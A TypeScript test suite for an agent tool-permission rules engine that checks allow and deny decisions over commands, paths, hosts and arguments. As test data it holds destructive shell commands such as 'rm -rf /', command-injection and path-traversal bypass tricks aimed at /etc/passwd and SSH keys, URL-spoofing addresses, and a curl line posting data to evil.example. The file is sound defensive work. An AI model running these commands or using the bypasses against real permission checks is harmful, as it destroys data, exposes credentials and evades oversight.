import { describe, expect, it } from "vitest";
import { Rules } from "../../../src/call/rules/rules.ts";
import type { Rule, RulePattern } from "../../../src/machine/config/settings.ts";
import { workNow } from "../../support/work-clock.ts";

const tool = (inputSchema = {}) => ({ name: "it", origin: "native", ownName: "it", inputSchema });
const pathBase = () => ({ workspace: "/ws/ada", userHome: "/home/ada" });

/** Whether a rule with this pattern decides. */
function matches(pattern: RulePattern, action: Rule["action"], args: Record<string, unknown>): boolean {
  const rules = new Rules([{ permission: "it", pattern, action, from: "user" }], { userHome: "/home/ada" });
  return rules.decide(tool(), { args, pathBase }).rule !== "default: allow";
}

const allows = (pattern: RulePattern, args: Record<string, unknown>) => matches(pattern, "allow", args);
const denies = (pattern: RulePattern, args: Record<string, unknown>) => matches(pattern, "deny", args);

describe("a pattern over commands", () => {
  it.each([
    ["git *", "git status"],
    ["git *", "  git log --oneline "],
    ["git *", 'git commit -m "fix; done (really) & well"'],
    ["git *", "git commit -m 'costs $5; `no`'"],
    ["git *", "git show HEAD\\;x"],
    ["npm test && npm run build", "npm test && npm run build"],
    ["cat * | wc -l", "cat a b c | wc -l"],
  ])("%s allows %s", (pattern, command) => {
    expect(allows(pattern, { command })).toBe(true);
    expect(allows({ command: pattern }, { command })).toBe(true);
  });

  it.each([
    ["git *", "git status; rm -rf /"],
    ["git *", "git status && rm x"],
    ["git *", "git status | sh"],
    ["git *", "git status & rm x"],
    ["git *", "git log > /etc/passwd"],
    ["git *", "git log $(rm x)"],
    ["git *", "git log `rm x`"],
    ["git *", 'git log "$(rm x)"'],
    ["git *", "git log $HOME"],
    ["git *", "git log <(rm x)"],
    ["git *", "git status\nrm x"],
    ["git *", "git status\r\nrm x"],
    ["git *", "git 'status\nrm x'"],
    ["git *", "git 'status; rm x"],
    ["git *", "git 'a'; rm 'b'"],
    ["git *", "git \\\nrm"],
    ["git *", "gitx status"],
    ["git *", "X=1 git status"],
    ["git status", "git status --help"],
    ["cat * | wc -l", "cat a; rm b | wc -l"],
    ["cat * | wc -l", "cat a | rm b | wc -l"],
    ["echo *; echo *", "echo a; rm; echo b"],
  ])("%s does not allow %s", (pattern, command) => {
    expect(allows(pattern, { command })).toBe(false);
    expect(allows({ command: pattern }, { command })).toBe(false);
  });

  it.each([
    ["rm *", "rm -rf /"],
    ["rm -rf *", "rm   -rf  /"],
    ["rm *", "git status; rm x"],
    ["rm *", "git status && rm x"],
    ["rm *", "true|rm x"],
    ["rm *", "true\nrm x"],
    ["rm *", "echo $(rm x)"],
    ["rm *", 'echo "a $(rm x) b"'],
    ["rm *", "echo `rm x`"],
    ["rm *", "(rm x)"],
    ["rm *", "sudo -u root rm x"],
    ["rm *", "env A=1 rm x"],
    ["rm *", "A=1 B=2 rm x"],
    ["rm *", "/bin/rm x"],
    ["rm *", "r\\m x"],
    ["rm *", "'rm' x"],
    ["rm *", '"r"m x'],
    ["rm *", "sh -c 'cd /; rm x'"],
    ["rm *", 'bash -lc "rm x"'],
    ["rm *", "find . | xargs -n 1 rm -f"],
    ["rm *", "eval 'rm x'"],
    ["rm *", "eval rm x"],
    ["rm *", "A=1 rm x"],
    ["rm x", " rm   x "],
    ["rm *", "if true; then rm x; fi"],
    ["rm *", "sudo sh -c 'timeout 5 rm x'"],
    ["* > /etc/*", "echo a >/etc/passwd"],
    ["rm *", "2>/dev/null rm -rf /"],
    ["rm *", "2>&1 >| x rm -rf /"],
    ["rm *", "&>/dev/null rm -rf /"],
    ["rm *", "</dev/null rm -rf /"],
    ["rm *", "rm 2>&1 x"],
    ["rm *", "A+=1 rm -rf /"],
    ["rm *", "A[0]=1 rm -rf /"],
    ["rm *", "env -u A -u B -u C -u D rm -rf /"],
    ["rm *", `env ${"-u A ".repeat(50)} rm -rf /`],
    ["rm *", "bash -cx 'rm x'"],
    ["rm *", "bash -c -- 'rm x'"],
    ["rm *", "bash <<< 'rm x'"],
    ["rm *", "if false; then true; elif rm x; then true; fi"],
    ["rm *", "rm$IFS-rf /"],
    ["rm *", "{rm,-rf,/}"],
    ["rm *", "/bin/r? x"],
    ["rm *", "$X x"],
    ["rm *", '"$X" x'],
    ["rm *", "$(echo rm) x"],
    ["rm *", "sudo -n $X x"],
    ["rm *", "find . -exec rm {} +"],
  ])("%s denies %s", (pattern, command) => {
    expect(denies({ command: pattern }, { command })).toBe(true);
    expect(denies(pattern, { command })).toBe(true);
  });

  it.each([
    ["rm *", 'git commit -m "then; rm x"'],
    ["rm *", "echo rm x"],
    ["rm *", "arm x"],
    ["rm *", "echo $HOME *.md {a,b} [x]"],
    ["rm *", "sudo ls *.log $HOME"],
    ["rm *", "echo $(ls) > $HOME/x 2>&1"],
    ["rm *", "if [ -f x ]; then ls; fi"],
    ["rm *", "[[ $X == y ]] && ls"],
    ["rm *", "A=$(date) ls"],
    ["rm *", "'$X' x"],
  ])("%s does not deny %s", (pattern, command) => {
    expect(denies({ command: pattern }, { command })).toBe(false);
  });

  it("sees a program with its arguments beside it, and a list of words, as one command", () => {
    expect(allows({ command: "git status" }, { command: "git", args: ["status"] })).toBe(true);
    expect(allows({ command: "git *" }, { command: ["git", "log"] })).toBe(true);
    expect(allows({ command: "git *" }, { command: "sh", args: ["-c", "rm x"] })).toBe(false);
    expect(denies({ command: "rm *" }, { command: "sh", args: ["-c", "true; rm x"] })).toBe(true);
    expect(denies({ command: "rm *" }, { command: "rm", args: "-rf /" })).toBe(true);
    expect(denies({ command: "rm *" }, { command: "rm", args: ["-rf", "/", 1] })).toBe(true);
    expect(denies({ command: "rm *" }, { commands: ["ls", "rm x"] })).toBe(true);
    expect(denies({ command: "rm *" }, { commands: ["git status", "rm x"] })).toBe(true);
    expect(allows({ command: "git *" }, { commands: ["git status", "rm x"] })).toBe(false);
  });

  it("takes exceptions: for an allow what may be one, for a deny only what surely is", () => {
    const allowed = { command: ["git *", "!git push*"] };
    expect(allows(allowed, { command: "git log" })).toBe(true);
    expect(allows(allowed, { command: "git  push" })).toBe(false);
    expect(allows(allowed, { command: "git 'push'" })).toBe(false);
    const denied = { command: "!git *" };
    expect(denies(denied, { command: "git log" })).toBe(false);
    expect(denies(denied, { command: "git log; rm x" })).toBe(true);
  });

  it("does not read a command that is too long: none is allowed, every one may be denied", () => {
    const command = `git ${"a".repeat(30_000)}`;
    expect(allows({ command: "git *" }, { command })).toBe(false);
    expect(denies({ command: "rm *" }, { command })).toBe(true);
  });
});

describe("a pattern over paths", () => {
  it.each([
    ["src/**", "src/a/b.ts"],
    ["src/**", "./src//a.ts"],
    ["src/**", "src/x/../a.ts"],
    ["src/**", "/ws/ada/src/a.ts"],
    ["src/", "src/a/b"],
    ["src/**", "src"],
    ["*.md", "README.md"],
    ["**/*.md", "/anywhere/at/all/README.md"],
    ["/etc/**", "/etc/../etc/passwd/"],
    ["~/.ssh/**", "~/.ssh/id_rsa"],
    ["~/.ssh/**", "/home/ada/.ssh/id_rsa"],
    ["/home/ada/.ssh/*", "~/.ssh/id_rsa"],
    ["a/**/c/**/e", "a/b/c/d/c/e"],
  ])("%s allows and denies %s", (pattern, path) => {
    for (const written of [pattern, { path: pattern }]) {
      expect(allows(written, { path })).toBe(true);
      expect(denies(written, { path })).toBe(true);
    }
  });

  it.each([
    ["src/**", "src/../secret"],
    ["src/**", "../src/a.ts"],
    ["src/**", "/src/a.ts"],
    ["src/**", "srcs/a.ts"],
    ["src/*", "src/a/b.ts"],
    ["*.md", "docs/README.md"],
    ["/ws/ada/**", "/ws/ada/../bob/x"],
    ["/tmp/**", "/tmp/../etc/passwd"],
  ])("%s neither allows nor denies %s", (pattern, path) => {
    expect(allows({ path: pattern }, { path })).toBe(false);
    expect(denies({ path: pattern }, { path })).toBe(false);
  });

  it.each([
    ["private/**", "file:/../private/p.txt"],
    ["/tmp/*", "file:///tmp/a%20b"],
    ["/tmp/**", "file:///tmp/%2e%2e/etc/passwd"],
    ["/etc/**", "file:///tmp/%2e%2e/etc/passwd"],
    ["/etc/**", "file:///ws/ada/ok/#/../../../../etc/passwd"],
    ["/etc/**", "file:///ws/ada/ok/?/../../../../etc/passwd"],
    ["/etc/**", "file:////etc/passwd"],
    ["/etc/**", "file:etc/passwd"],
    ["etc/**", "file:etc/passwd"],
    ["/etc/**", "FILE://localhost/etc/passwd"],
    ["/etc/**", "file://other.example/etc/passwd"],
    ["/etc/**", "fi\tle:///etc/passwd"],
    ["/etc/**", "file:///etc%2fpasswd"],
    ["/etc/**", "/tmp/%252e%252e/etc/passwd"],
    ["/etc/**", "/tmp/%2e%2e/etc/passwd%"],
    ["/etc/**", "/tmp/..%5cetc%5cpasswd"],
    ["private/**", "private/..\\q.txt"],
    ["q.txt", "private/..\\q.txt"],
    ["private/**", "~/../private/p.txt"],
    ["private/**", "C:/../private/p.txt"],
    ["C:/Windows/**", "C:\\Windows\\System32"],
    ["private/**", "/proc/self/root/ws/ada/private/p.txt"],
    ["private/**", "/proc/self/cwd/private/p.txt"],
    ["private/**", "/proc/4711/task/1/root/../x"],
    ["private/**", "../../proc/thread-self/fd/9"],
    ["private/**", "/dev/fd/9"],
    ["private/**", "x/%2e%2e/%2e%2e/%2e%2e/proc/1/cwd/private"],
  ])("%s denies, and does not allow, what one reader may take for it: %s", (pattern, path) => {
    for (const written of [pattern, { path: pattern }]) {
      expect(denies(written, { path })).toBe(true);
      expect(allows(written, { path })).toBe(false);
    }
  });

  it("allows an address of a file only where that and the plain path fit", () => {
    expect(allows({ path: "**" }, { path: "file:///tmp/a%20b" })).toBe(true);
    expect(allows({ path: ["/tmp/**", "/ws/**"] }, { path: "file:///tmp/a" })).toBe(false);
    expect(allows({ path: "ok/**" }, { path: "file:///ws/ada/ok/#/../../../x" })).toBe(false);
    expect(denies({ path: "/srv/**" }, { path: "/proc/cpuinfo" })).toBe(false);
    expect(denies({ path: "/srv/**" }, { path: "/dev/shm/x" })).toBe(false);
    expect(denies({ path: "/srv/**" }, { path: "src/proc/self/root/x" })).toBe(false);
  });

  it("allows nothing that it cannot be sure of", () => {
    expect(allows({ path: "**" }, { path: "~root/x" })).toBe(false);
    expect(allows({ path: "src/**" }, { path: "src/..\\..\\x" })).toBe(false);
    expect(allows({ path: "**" }, { path: "a\0b" })).toBe(false);
    expect(denies({ path: "/etc/**" }, { path: "a\0b" })).toBe(true);
    expect(denies({ path: "/ws/ada/.env" }, { path: "src\\..\\.env" })).toBe(true);
  });

  it("allows only where every path fits, denies where any does", () => {
    const args = { source: "./src/a", files: [{ path: "src/b" }, { path: "/etc/passwd" }] };
    expect(allows({ path: "src/**" }, args)).toBe(false);
    expect(denies({ path: "/etc/*" }, args)).toBe(true);
    expect(allows({ path: ["src/**", "/etc/*"] }, args)).toBe(true);
    expect(allows({ path: ["**", "!/etc/**"] }, args)).toBe(false);
  });

  it.each([
    [{ path: "xx://../.env" }, "**/.env"],
    [{ destination: "xx://../.env" }, "**/.env"],
    [{ url: "xx://../.env" }, "**/.env"],
    [{ path: "FILE:///etc/passwd" }, "/etc/**"],
    [{ uri: "FILE:///etc/passwd" }, "/etc/**"],
    [{ uri: "/etc/passwd" }, "/etc/**"],
    [{ path: " /etc/passwd" }, "/etc/**"],
    [{ path: "/etc/passwd\t" }, "/etc/passwd"],
    [{ anything: " /etc/passwd" }, "/etc/**"],
    [{ destination: "x/../../../etc/cron.d/x" }, "/etc/**"],
    [{ anything: "x/../../../etc/cron.d/x" }, "/etc/**"],
    [{ files: { "/etc/passwd": "x" } }, "/etc/**"],
    [{ files: { ".env": "x" } }, "**/.env"],
    [{ anything: { "/etc/passwd": "x" } }, "/etc/**"],
  ])("is not escaped by another way to write one: %j", (args, pattern) => {
    expect(denies({ path: pattern }, args)).toBe(true);
    expect(denies(pattern, args)).toBe(true);
    expect(allows({ path: "/data/**" }, { ...args, file: "/data/x" })).toBe(false);
  });

  it.each(["/ws/ada", "/ws/ada/", "/ws//ada//", "/ws/./ada/"])("lies in the workspace %s", (workspace) => {
    const action = (pattern: string) =>
      new Rules([{ permission: "it", pattern, action: "deny", from: "user" }]).decide(tool(), {
        args: { path: "etc/passwd" },
        pathBase: () => ({ workspace, userHome: "/home/ada" }),
      }).action;
    expect(action("etc/*")).toBe("deny");
    expect(action("/ws/ada/etc/*")).toBe("deny");
  });

  it("of a workspace that is the root lies where it says", () => {
    const rules = new Rules([{ permission: "it", pattern: "/etc/**", action: "deny", from: "user" }]);
    const atRoot = () => ({ workspace: "/", userHome: "/root" });
    const action = (path: string) => rules.decide(tool(), { args: { path }, pathBase: atRoot }).action;
    expect(["etc/passwd", "./etc/passwd", "/etc/passwd", "var/etc/x"].map(action)).toEqual([
      "deny",
      "deny",
      "deny",
      "allow",
    ]);
  });

  it("of a server starts in an unknown folder: nothing allows a relative one", () => {
    const decided = (pattern: string, action: Rule["action"], path: string, startedIn = "/srv/daemon") =>
      new Rules([{ permission: "it", pattern: { path: pattern }, action, from: "user" }], {
        userHome: "/home/ada",
      }).decide(
        { ...tool(), startsElsewhere: true },
        { args: { path }, pathBase: () => ({ ...pathBase(), startedIn }) },
      ).rule !== "default: allow";
    expect(decided("src/**", "allow", "src/a")).toBe(false);
    expect(decided("**", "allow", "./src/a")).toBe(false);
    expect(decided("/data/**", "allow", "/data/a")).toBe(true);
    expect(decided("~/.ssh/**", "allow", "~/.ssh/a")).toBe(true);
    for (const pattern of ["src/**", "/ws/ada/src/*", "~/src/*", "/srv/daemon/src/*"])
      for (const path of ["src/a", "./src/a"]) expect(decided(pattern, "deny", path)).toBe(true);
    expect(decided("/srv/daemon/.env", "deny", "x/../.env")).toBe(true);
    expect(decided("/srv/other/**", "deny", "src/a")).toBe(false);
    expect(decided("/etc/**", "deny", "etc/passwd", "/")).toBe(true);
  });

  it("leads where the tool declares that it starts, whatever its origin is", () => {
    const decided = (about: { origin?: string; startsElsewhere?: boolean }) =>
      new Rules([{ permission: "*", pattern: { path: "src/**" }, action: "allow", from: "user" }], {
        userHome: "/home/ada",
      }).decide({ ...tool(), ...about }, { args: { path: "src/a" }, pathBase }).rule !== "default: allow";
    expect(decided({})).toBe(true);
    expect(decided({ startsElsewhere: true })).toBe(false);
    expect(decided({ origin: "mcp:one", startsElsewhere: true })).toBe(false);
    expect(decided({ origin: "plugin:one", startsElsewhere: true })).toBe(false);
  });

  it("of a server that has a folder of its own starts there", () => {
    const decided = (pattern: string, startsIn: string | undefined) =>
      new Rules([{ permission: "it", pattern: { path: pattern }, action: "deny", from: "user" }], {
        userHome: "/home/ada",
      }).decide(
        { ...tool(), startsElsewhere: true, ...(startsIn !== undefined && { startsIn }) },
        { args: { path: "passwd" }, pathBase: () => ({ ...pathBase(), startedIn: "/srv/daemon" }) },
      ).action;
    expect(decided("/etc/**", "/etc")).toBe("deny");
    expect(decided("/etc/**", undefined)).toBe("allow");
    expect(decided("/srv/daemon/data/*", "data")).toBe("deny");
    expect(decided("~/passwd", "/etc")).toBe("deny");
  });

  it("allows nothing beside what may be a path elsewhere, by whatever name", () => {
    for (const destination of ["x/../../../etc/cron.d/x", "..", "x\\y", "lib/x"])
      for (const name of ["destination", "to", "anything"])
        expect(allows({ path: "src/**" }, { path: "src/a", [name]: destination })).toBe(false);
    for (const more of [{ to: "src/b" }, { anything: "src/b" }, { branch: "feature/x" }, { content: "a/b" }])
      expect(allows({ path: "src/**" }, { path: "src/a", ...more })).toBe(true);
    expect(denies({ path: "!src/**" }, { path: "src/a", anything: "acme/site" })).toBe(false);
    expect(allows({ host: "good.example" }, { url: "https://good.example", target: "evil.example" })).toBe(
      false,
    );
  });

  it("is quick with globs and paths made to be slow", () => {
    const path = `${"a/".repeat(2_000)}b`;
    const started = workNow();
    expect(denies({ path: "**/a*a*a/**/a*a/**/c" }, { path })).toBe(false);
    expect(workNow() - started).toBeLessThan(500);
  });
});

describe("a pattern over hosts", () => {
  it.each([
    ["api.github.com", "https://api.github.com/repos"],
    ["*.github.com", "HTTPS://API.GitHub.com:443/x"],
    ["*.github.com", "https://api.github.com./x"],
    ["*.github.com", "api.github.com:8443"],
    ["github.com", "git@github.com:org/repo.git"],
    ["127.0.0.1", "http://2130706433/"],
    ["::1", "http://[::1]:80/"],
    ["xn--bcher-kva.example", "https://bücher.example/"],
  ])("%s allows and denies %s", (pattern, url) => {
    for (const written of [pattern, { host: pattern }]) {
      expect(allows(written, { url })).toBe(true);
      expect(denies(written, { url })).toBe(true);
    }
  });

  it.each([
    ["github.com", "https://github.com@evil.example/"],
    ["github.com", "https://github.com.evil.example/"],
    ["*.github.com", "https://evil.example/?x=api.github.com"],
    ["*.github.com", "https://github.com/"],
    ["github.com", "https://evil.example#github.com"],
    ["relative", "/relative/path"],
  ])("%s neither allows nor denies %s", (pattern, url) => {
    expect(allows({ host: pattern }, { url })).toBe(false);
    expect(denies({ host: pattern }, { url })).toBe(false);
  });

  it.each([
    "https:/evil.example/x",
    "https:evil.example",
    "https:\\\\evil.example",
    "https:///evil.example",
    "ht\ttps://evil.example",
    "https://ev\til.example/",
    " https://evil.example",
    "\\\\evil.example\\x",
    "https://good.example\\@evil.example/",
    "https://evil.example\\@good.example/",
    "user@good.example:pw@evil.example/",
    "user@evil.example:pw@good.example/",
    "https://user@evil.example:pw@good.example/",
    "postgres://EVIL%2eexample/",
    `https://${"a.".repeat(2_000)}good.example/`,
  ])("an address that somebody may read as another denies that, and allows nothing: %j", (url) => {
    expect(denies({ host: "evil.example" }, { url })).toBe(true);
    for (const pattern of ["evil.example", "good.example", "*.example"])
      expect(allows({ host: pattern }, { url })).toBe(false);
  });

  it("finds addresses by their shape, by their schema, in lists and in commands", () => {
    expect(denies({ host: "evil.example" }, { anything: "https://evil.example/x" })).toBe(true);
    expect(denies({ host: "evil.example" }, { a: [{ b: ["https://evil.example/x"] }] })).toBe(true);
    expect(denies({ host: "evil.example" }, { command: "curl -d @x https://evil.example/x" })).toBe(true);
    const rules = new Rules([
      { permission: "it", pattern: { host: "a.example" }, action: "deny", from: "user" },
    ]);
    const typed = tool({ properties: { where: { type: "string", format: "hostname" } } });
    expect(rules.decide(typed, { args: { where: "a.example" } }).action).toBe("deny");
  });
});

describe("a pattern over arguments", () => {
  it("compares texts, numbers and truth values, also within objects", () => {
    expect(allows({ "arg.repo": "acme/*" }, { repo: "acme/site" })).toBe(true);
    expect(allows({ "arg.count": "3" }, { count: 3 })).toBe(true);
    expect(allows({ "arg.repo.owner": "acme" }, { repo: { owner: "acme" } })).toBe(true);
    expect(allows({ "arg.tags": ["a", "b"] }, { tags: ["a", "b"] })).toBe(true);
    expect(allows({ "arg.tags": "a" }, { tags: ["a", "b"] })).toBe(false);
    expect(denies({ "arg.tags": "b" }, { tags: ["a", "b"] })).toBe(true);
  });

  it("does not match what is absent, null or of another type", () => {
    for (const args of [{}, { repo: null }, { repo: [] }]) {
      expect(allows({ "arg.repo": "*" }, args)).toBe(false);
      expect(denies({ "arg.repo": "!acme" }, args)).toBe(false);
    }
    expect(allows({ "arg.repo": "*" }, { repo: { owner: "acme" } })).toBe(false);
    expect(allows({ path: "**" }, {})).toBe(false);
    expect(denies({ path: "!src/**" }, {})).toBe(false);
    expect(allows({ "arg.constructor": "*" }, {})).toBe(false);
  });

  it("holds only where all of its predicates do", () => {
    const pattern = { path: "src/**", "arg.mode": "append" };
    expect(allows(pattern, { path: "src/a", mode: "append" })).toBe(true);
    expect(allows(pattern, { path: "src/a", mode: "replace" })).toBe(false);
    expect(denies(pattern, { path: "lib/a", mode: "append" })).toBe(false);
  });

  it.each([995, 996, 997, 998, 999, 1_000, 1_001])("still finds the value before %i others", (count) => {
    const args = { url: "https://evil.example/x", json: Array(count).fill(1) };
    expect(denies({ host: "evil.example" }, args)).toBe(true);
    expect(allows({ host: "good.example" }, args)).toBe(false);
  });

  it.each<[string, Record<string, unknown>]>([
    ["a command full of addresses", { command: ",a://b".repeat(3_300) }],
    ["many commands", { commands: Array(100).fill(`a ${"a".repeat(19_000)} b://c`) }],
    ["a scheme without an end", { url: "a".repeat(100_000), path: "a".repeat(100_000) }],
    ["a user with dots", { url: `a@${".".repeat(100_000)}x:` }],
    ["dots", { host: `a${".".repeat(100_000)}x`, url: `http://a${".".repeat(100_000)}` }],
    ["users", { url: "@".repeat(100_000) }],
    ["backslashes", { url: "\\".repeat(100_000), path: "\\".repeat(4_000) }],
    ["steps upwards", { path: "../".repeat(1_300), anything: "../".repeat(33_000) }],
    ["blanks", { path: " ".repeat(100_000), url: `a${" ".repeat(100_000)}b` }],
    ["wrappers", { command: "env ".repeat(5_000) }],
  ])("is quick with %s", (_, args) => {
    const started = workNow();
    for (const pattern of ["*x", { host: "*.x" }, { path: "**/x" }, { command: "x *" }]) {
      allows(pattern, args);
      denies(pattern, args);
    }
    expect(workNow() - started).toBeLessThan(1_000);
  });

  it("does not lose sight of a value among thousands: then nothing is allowed and all may be denied", () => {
    const paths = [...Array.from({ length: 5_000 }, (_, index) => `src/${index}`), "/etc/passwd"];
    expect(allows({ path: "src/**" }, { paths })).toBe(false);
    expect(denies({ path: "/etc/**" }, { paths })).toBe(true);
    expect(denies({ "arg.paths": "/etc/*" }, { paths })).toBe(true);
  });
});

describe("an allow is not carried by what the tool does not take", () => {
  const text = { type: "string" };
  const permits = (pattern: RulePattern, properties: object, args: Record<string, unknown>) =>
    new Rules([{ permission: "it", pattern, action: "allow", from: "user" }]).decide(tool({ properties }), {
      args,
      pathBase,
    }).rule !== "default: allow";

  it("neither a path, a host nor a command", () => {
    const args = { path: "/etc/shadow", command: "/data/x" };
    expect(permits("/data/**", { path: text }, args)).toBe(false);
    expect(permits("/data/**", { path: text, command: text }, args)).toBe(false);
    expect(permits("/data/**", { where: text }, { where: "x", path: "/data/x" })).toBe(false);
    expect(permits({ path: "/data/**" }, { where: text }, { where: "x", path: "/data/x" })).toBe(false);
    expect(permits({ path: "/data/**" }, { path: text }, { path: "/data/x" })).toBe(true);
    const hosts = { target: "evil.example", q: "x", url: "https://good.example" };
    expect(permits({ host: "good.example" }, { target: text, q: text }, hosts)).toBe(false);
    expect(permits({ host: "good.example" }, { url: text }, { url: "https://good.example" })).toBe(true);
    expect(permits({ command: "git *" }, { line: text }, { line: "rm x", command: "git log" })).toBe(false);
    expect(permits({ "arg.mode": "dry" }, {}, { mode: "dry" })).toBe(false);
  });

  it("nor what stands where a declared object has no such property", () => {
    const options = { type: "object", properties: { url: text } };
    const args = { options: { url: "https://good.example" } };
    expect(permits({ host: "good.example" }, { options }, args)).toBe(true);
    expect(permits({ host: "good.example" }, { options: { type: "object" } }, args)).toBe(false);
    const list = { type: "array", items: { anyOf: [options, text] } };
    expect(permits({ host: "good.example" }, { options: list }, { options: [args.options] })).toBe(true);
  });

  it("nor a command by its text, where a folder, a host or variables stand beside it", () => {
    const properties = { command: text, cwd: text, env: { type: "object" } };
    expect(permits("npm test", properties, { command: "npm test" })).toBe(true);
    expect(permits("npm test", properties, { command: "npm test", cwd: "/tmp/evil" })).toBe(false);
    expect(permits("npm test", properties, { command: "npm test", cwd: "evil" })).toBe(false);
    const both = { command: "npm test", path: "src/**" };
    expect(permits(both, properties, { command: "npm test", cwd: "src/a" })).toBe(true);
    for (const pattern of ["npm test", { command: "npm test" }])
      expect(permits(pattern, properties, { command: "npm test", env: { NODE_OPTIONS: "-r x" } })).toBe(
        false,
      );
    expect(permits("curl *", properties, { command: "curl https://a.example" })).toBe(true);
    expect(permits({ host: "a.example" }, properties, { command: "curl https://a.example" })).toBe(false);
  });

  it("nor by one of two ways to read the name of an argument", () => {
    const pattern = { "arg.repo.owner": "good" };
    const properties = { repo: { type: "object", properties: { owner: text } } };
    const args = { repo: { owner: "evil" }, "repo.owner": "good" };
    expect(permits(pattern, properties, args)).toBe(false);
    expect(permits(pattern, {}, args)).toBe(false);
    expect(permits(pattern, properties, { repo: { owner: "good" } })).toBe(true);
    expect(denies({ "arg.repo.owner": "evil" }, args)).toBe(true);
  });

  it("nor by the name that a server gives its tool: only a resource has a URI", () => {
    const rules = new Rules([
      { permission: "net", pattern: { host: "good.example" }, action: "allow", from: "user" },
    ]);
    const ownName = "resource:https://good.example/";
    const it = { ...tool(), ownName, capabilities: ["net"] as const };
    expect(rules.decide(it, { args: {} }).rule).toBe("default: allow");
    expect(rules.decide({ ...it, reads: "https://good.example/" }, { args: {} }).rule).toContain("net");
  });
});
